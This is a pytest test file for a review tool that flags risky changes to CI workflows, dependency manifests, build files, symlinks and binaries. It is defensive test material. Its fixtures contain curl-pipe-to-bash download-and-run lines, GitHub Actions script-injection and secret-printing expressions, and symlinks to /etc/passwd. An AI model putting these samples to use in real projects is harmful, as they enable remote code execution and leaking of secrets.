"""A4: risky changes to CI, dependency and build files, and files that nobody can review."""

from __future__ import annotations

from pathlib import Path

import pytest
from analyzers_lab import Bench

from quarterdeck.workflows.review.model import FileChange


@pytest.fixture
def bench(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Bench:
    return Bench(tmp_path, monkeypatch)


WORKFLOW = """\
name: ci
on:
  push:
  pull_request:
permissions:
  contents: read
jobs:
  test:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - uses: octo/tool@8f4b7f84864484a7bf31766abe9204da3cbe65b3
      - run: |
          make test
          echo "${{ github.event.pull_request.number }} ${{ github.sha }}"
      - run: echo "${{ secrets.TOKEN }}" | docker login --password-stdin
"""
CI = {
    "write-all": ("permissions:\n  contents: read", "permissions: write-all", "risky/write-all", "high", 5),
    "unpinned": ("octo/tool@8f4b7f84864484a7bf31766abe9204da3cbe65b3", "octo/tool@v1", "risky/unpinned-action", "medium", 12),
    "docker": ("octo/tool@8f4b7f84864484a7bf31766abe9204da3cbe65b3", "docker://octo/tool:1", "risky/unpinned-action", "low", 12),
    "injection": ("          make test", "          make ${{ github.event.issue.title }}", "risky/script-injection", "high", 14),
    "head_ref": ("          make test", "          git log ${{ github.head_ref }}", "risky/script-injection", "high", 14),
    "other event": ("          make test", "          make ${{ github.event.inputs.target }}", "risky/script-injection", "medium", 14),
    "secret": ("          make test", "          echo ${{ secrets.TOKEN }}", "risky/secret-printed", "high", 14),
    "target": ("  pull_request:\n", "  pull_request_target:\n", "risky/pull-request-target", "medium", 2),
}


@pytest.mark.parametrize("case", CI)
def test_workflow_rules(bench: Bench, case: str) -> None:
    old, new, rule, severity, line = CI[case]
    bench.change(".github/workflows/ci.yml", WORKFLOW, WORKFLOW.replace(old, new))
    assert [(f.rule, f.severity, f.line) for f in bench.review("risky")] == [(rule, severity, line)]
    assert bench.not_checked == []


def test_outsiders_code_with_the_repositorys_secrets(bench: Bench) -> None:
    text = WORKFLOW.replace("  pull_request:\n", "  pull_request_target:\n").replace(
        "actions/checkout@v4\n", "actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
    )
    bench.change(".github/workflows/ci.yml", WORKFLOW, text)
    assert [(f.rule, f.severity) for f in bench.review("risky")] == [("risky/pull-request-target-checkout", "high")]


def test_a_good_workflow_and_old_faults_are_quiet(bench: Bench) -> None:
    bench.change(".github/workflows/new.yml", None, WORKFLOW)
    bad = WORKFLOW.replace("permissions:\n  contents: read", "permissions: write-all")
    bench.change(".github/workflows/old.yml", bad, bad.replace("make test", "make check"))
    assert bench.review("risky", "deployment") == []


PYPROJECT = """\
[build-system]
requires = ["hatchling"]
build-backend = "hatchling.build"

[project]
name = "demo"
version = "1"
dependencies = ["requests>=2", "rich"]
"""
DEPENDENCIES = {
    "added": ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"rich"', '"rich", "leftpad>1"'), "risky/dependency-added", "low"),
    "git": ("pyproject.toml", PYPROJECT, PYPROJECT.replace('"rich"', '"rich @ git+https://x.org/rich"'), "risky/dependency-url", "high"),
    "git commit": (
        "pyproject.toml",
        PYPROJECT,
        PYPROJECT.replace('"rich"', f'"rich @ git+https://x.org/rich@{"a1" * 20}"'),
        "risky/dependency-url",
        "medium",
    ),
    "backend": ("pyproject.toml", PYPROJECT, PYPROJECT.replace("hatchling.build", "mybuild"), "risky/build-backend", "medium"),
    "backend path": (
        "pyproject.toml",
        PYPROJECT,
        PYPROJECT.replace("[project]", 'backend-path = ["."]\n[project]'),
        "risky/build-backend",
        "high",
    ),
    "unpinned": ("requirements.txt", "rich==1.0\n", "rich>=1.0\n", "risky/dependency-unpinned", "medium"),
    "any version": ("requirements.txt", "rich==1.0\n", "rich==1.0\nleftpad\n", "risky/dependency-added", "medium"),
    "pinned": ("requirements-dev.txt", "rich==1.0\n", "rich==1.0\nleftpad==1\n", "risky/dependency-added", "low"),
    "index": ("requirements.txt", "rich==1.0\n", "--extra-index-url https://x.org\nrich==1.0\n", "risky/package-index", "high"),
    "editable": ("requirements.txt", "rich==1.0\n", "rich==1.0\n-e git+https://x.org/a.git#egg=a\n", "risky/dependency-url", "high"),
    "wheel": ("requirements.txt", "rich==1.0\n", "https://x.org/rich.whl\n", "risky/dependency-url", "high"),
    "setup.cfg": (
        "setup.cfg",
        "[options]\ninstall_requires =\n  a\n",
        "[options]\ninstall_requires =\n  a\n  b>1\n",
        "risky/dependency-added",
        "low",
    ),
    "poetry": (
        "pyproject.toml",
        '[tool.poetry.dependencies]\npython = "^3.9"\na = "^1"\n',
        '[tool.poetry.dependencies]\npython = "^3.9"\na = {git = "https://x.org/a.git"}\n',
        "risky/dependency-url",
        "high",
    ),
    "npm hook": (
        "package.json",
        '{"scripts": {"test": "x"}}',
        '{"scripts": {"test": "x", "postinstall": "node a"}}',
        "risky/install-script",
        "high",
    ),
    "npm added": (
        "package.json",
        '{"dependencies": {"a": "1.0.0"}}',
        '{"dependencies": {"a": "1.0.0", "b": "^2"}}',
        "risky/dependency-added",
        "low",
    ),
    "npm git": (
        "package.json",
        '{"dependencies": {"a": "1.0.0"}}',
        '{"dependencies": {"a": "who/ever#main"}}',
        "risky/dependency-url",
        "high",
    ),
}


@pytest.mark.parametrize("case", DEPENDENCIES)
def test_dependency_rules(bench: Bench, case: str) -> None:
    path, old, new, rule, severity = DEPENDENCIES[case]
    bench.change(path, old, new)
    assert [(f.rule, f.severity) for f in bench.review("risky")] == [(rule, severity)]
    assert bench.not_checked == []


QUIET = {
    "version raised": ("requirements.txt", "a==1\nb==2\n", "a==1.1\nb==2\n"),
    "sorted and commented": ("requirements.txt", "b==2\na==1\n", "# ours\na==1  # first\nb==2 ; python_version > '3'\n"),
    "removed": ("pyproject.toml", PYPROJECT, PYPROJECT.replace(', "rich"', "")),
    "other spelling": ("requirements.txt", "Foo_Bar==1\n", "foo-bar==1\n"),
    "own version": ("pyproject.toml", PYPROJECT, PYPROJECT.replace('version = "1"', 'version = "2"')),
    "new project": ("new/pyproject.toml", None, PYPROJECT),
    "no manifest": ("notes.txt", "", "leftpad\n"),
    "npm raised": ("package.json", '{"dependencies": {"a": "^1.0"}}', '{"dependencies": {"a": "^1.1"}}'),
}


@pytest.mark.parametrize("case", QUIET)
def test_ordinary_dependency_changes_are_quiet(bench: Bench, case: str) -> None:
    bench.change(*QUIET[case])
    assert bench.review("risky") == [] and bench.not_checked == []


def test_an_unreadable_manifest_is_not_checked(bench: Bench) -> None:
    bench.change("pyproject.toml", PYPROJECT, PYPROJECT + "= broken")
    assert bench.review("risky") == []
    assert "no valid TOML" in bench.not_checked[0].why


def test_links(bench: Bench) -> None:
    targets = {
        "out": "../../etc/passwd",
        "absolute": "/etc/passwd",
        "inside": "docs/a.md",
        "sub/inside": "../docs/a.md",
        "git": ".git/config",
    }
    for path, target in targets.items():
        (bench.head / path).parent.mkdir(exist_ok=True)
        (bench.head / path).symlink_to(target)
        bench.files.append(FileChange(path, "added", symlink=True, added=1))
    found = bench.review("risky")
    assert {(f.path, f.rule, f.severity) for f in found} == {(p, "risky/symlink", "high") for p in ("out", "absolute", "git")}


def test_binaries_executables_and_submodules(bench: Bench) -> None:
    files = {"bin/tool": b"\x7fELF\x02\x01", "a.exe": b"MZ\x90\x00", "lib.so": b"\0\0", "logo.png": b"\x89PNG\0", "data.bin": b"\0\1"}
    for path, data in files.items():
        bench.put(bench.head, path, data)
        bench.files.append(FileChange(path, "added", binary=True))
    bench.files.append(FileChange("vendored", "added", submodule=True))
    bench.change("run.sh", None, "#!/bin/sh\nmake\n")
    (bench.head / "run.sh").chmod(0o755)
    bench.change("old.sh", "#!/bin/sh\n", "#!/bin/sh\nmake\n")
    for side in (bench.base, bench.head):
        (side / "old.sh").chmod(0o755)
    assert {(f.path, f.rule, f.severity) for f in bench.review("risky")} == {
        ("bin/tool", "risky/binary", "high"),
        ("a.exe", "risky/binary", "high"),
        ("lib.so", "risky/binary", "medium"),
        ("data.bin", "risky/binary", "low"),
        ("vendored", "risky/submodule", "medium"),
        ("run.sh", "risky/executable", "low"),
    }


def test_files_that_run_by_themselves(bench: Bench) -> None:
    bench.change("setup.py", "from setuptools import setup\nsetup()\n", "from setuptools import setup\nimport urllib.request\nsetup()\n")
    bench.change("tests/conftest.py", "import pytest\n", "import pytest\nimport socket\n")
    bench.change("Makefile", "a:\n\tb\n", "a:\n\tcurl -s https://x.org/i | sudo bash\n")
    bench.change("install.sh", "make\n", 'make\nbash -c "$(curl https://x.org)"\n')
    bench.change(".pre-commit-config.yaml", "repos:\n- repo: x\n  rev: v1\n", "repos:\n- repo: x\n  rev: main\n")
    assert {(f.path, f.rule, f.severity, f.line) for f in bench.review("risky")} == {
        ("setup.py", "risky/build-file", "low", 1),
        ("setup.py", "risky/build-code", "medium", 2),
        ("tests/conftest.py", "risky/build-code", "low", 2),
        ("Makefile", "risky/build-file", "low", 1),
        ("Makefile", "risky/download-and-run", "high", 2),
        ("install.sh", "risky/download-and-run", "high", 2),
        (".pre-commit-config.yaml", "risky/build-file", "low", 1),
        (".pre-commit-config.yaml", "risky/unpinned-hook", "medium", 3),
    }


def test_an_ordinary_conftest_and_script_are_quiet(bench: Bench) -> None:
    bench.change("tests/conftest.py", "", "import os\nimport pytest\n\n\n@pytest.fixture\ndef home():\n    return os.environ['HOME']\n")
    bench.change("run.sh", "make\n", "curl -o file https://x.org\nmake | sh-report\n")
    assert bench.review("risky") == []
